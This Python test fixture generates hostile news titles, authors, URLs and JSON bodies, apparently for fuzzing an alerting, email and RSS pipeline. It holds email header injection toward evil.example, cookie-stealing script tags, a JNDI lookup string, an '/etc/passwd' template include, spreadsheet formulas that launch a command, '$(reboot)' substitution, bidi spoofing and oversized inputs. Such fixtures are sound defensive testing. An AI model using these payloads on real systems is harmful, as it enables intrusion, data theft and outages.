"""Hostile material: titles, authors, addresses, bodies, each with an attack on something that shows or carries it."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any
from xml.sax.saxutils import escape

NOW = datetime.now(UTC)
WATCHED = {"ACME": "Acme Corporation", "BETA": "Beta Holdings", "GAMM": "Gamma Limited"}
A_MESSAGE = 5  #: Stories that a message shows of one alert: so many titles name each company.
EVIL_HOST = "evil.example"

#: Titles, each with an attack on something that shows or carries them.
TITLES = (
    f"Acme Corporation falls\r\nBcc: victim@{EVIL_HOST}\r\n\r\n<h1>second body</h1>",
    "Acme Corporation\n.\nMAIL FROM:<x@evil.example>\nDATA",
    "Acme Corporation </title><script>alert(document.cookie)</script>",
    "Acme Corporation \"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "Acme Corporation {{ 7*7 }} {% include '/etc/passwd' %} {entity.__class__} %(levelname)s ${jndi:ldap://evil/a}",
    "Acme Corporation \x00 NUL \x07 bell \x1b[31m red \x1b]0;title\x07 \x9b2J",
    "Acme Corporation \u202egnp.exe\u202c \u2066isolated\u2069 \u061c\u200f turned",
    "A\u200bc\u200dm\u2060e\ufeff Corporation zero width \u00ad soft \U000e0041\U000e0042 tags",
    "Acme Corporation line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "Acme Corporation " + "e" + "\u0301" * 500 + " stacked",
    "Acme Corporation " + "\U0001f4a5" * 200,
    '=HYPERLINK("https://evil.example";"Acme Corporation")',
    "@SUM(1+1)*cmd|' /C calc'!A0 Acme Corporation",
    "Acme Corporation: " + "A" * 100_000,
    "acme corporation 阿克米公司 \ufdd0 \uffff non-characters",
)
AUTHORS = ("Ann\r\nX-Injected: yes", "<script>alert(1)</script>", "\u202eevil", "=cmd", "", "B" * 10_000, "Bob\x00by")
SOUND_URL = "https://ok.example/sound?a=1&b=2#c"
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "https://evil.example/\"onmouseover=\"alert(1)", "https://user:pass@evil.example/", "https://evil.example/\r\nX: x",
    "//evil.example/x", "https://", SOUND_URL, "https://ok.example/\u202egnp", "x" * 5000, "https://[", "file:///etc",
)  # fmt: skip
DEEP = b"[" * 100_000
RAW_BODIES = (
    DEEP + b"]" * 100_000, DEEP, b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"\\ud800 Acme Corporation"}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"\xed\xa0\x80 Acme Corporation"}',
    b'{"published_at":"9999999999999-01-01T00:00:00Z","source":"s","text":"x"}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"x","entities":["ACME\\r\\nX: y"]}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"x","entities":["$(reboot)"]}',
    b'{"text":1e999999}', b"\x00" * 1000, b"\xff\xfe{\x00}\x00", b'"' + b"\\u0000" * 10_000 + b'"', b"NaN", b"{}",
)  # fmt: skip


def titles() -> list[tuple[int, str, str]]:
    """Every title with its number and its company's ticker, whose name stands in it."""
    tickers = [ticker for ticker in WATCHED for _ in range(A_MESSAGE)]
    return [
        (n, t.replace("Acme Corporation", WATCHED[ticker]), ticker)
        for n, (t, ticker) in enumerate(zip(TITLES, tickers, strict=True))
    ]


def documents() -> list[dict[str, Any]]:
    """Every title with an author and an address, in turn; each a story of its own."""
    return [
        {
            "id": f"id-{number}\r\nX: y", "source": f"desk {number % 3}\r\nX-Source: y", "title": title,
            "published_at": (NOW - timedelta(minutes=number + 3)).isoformat(), "text": f"{title} {number} {number**5}",
            "author": AUTHORS[number % len(AUTHORS)], "url": URLS[number % len(URLS)], "lang": "en\r\nX: y",
            "entities": [ticker],
        }
        for number, title, ticker in titles()
    ]  # fmt: skip


def feed() -> bytes:
    """The same as a feed, as far as XML can hold them; escaped twice, so that the markup arrives."""

    def held(value: str) -> str:
        kept = "".join(c for c in value if c in "\t\n\r" or " " <= c < "\ufdd0" or "\U00010000" <= c < "\U000e0000")
        return escape(escape(kept))

    items = "".join(
        f"<item><guid isPermaLink='false'>feed-{number}</guid><title>{held(title)}</title>"
        f"<link>{held(URLS[number % len(URLS)])}</link><author>{held(AUTHORS[number % len(AUTHORS)])}</author>"
        f"<description>{held(f'{title} {number} feed')}</description></item>"
        for number, title, _ in titles()
    )
    return f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>".encode()
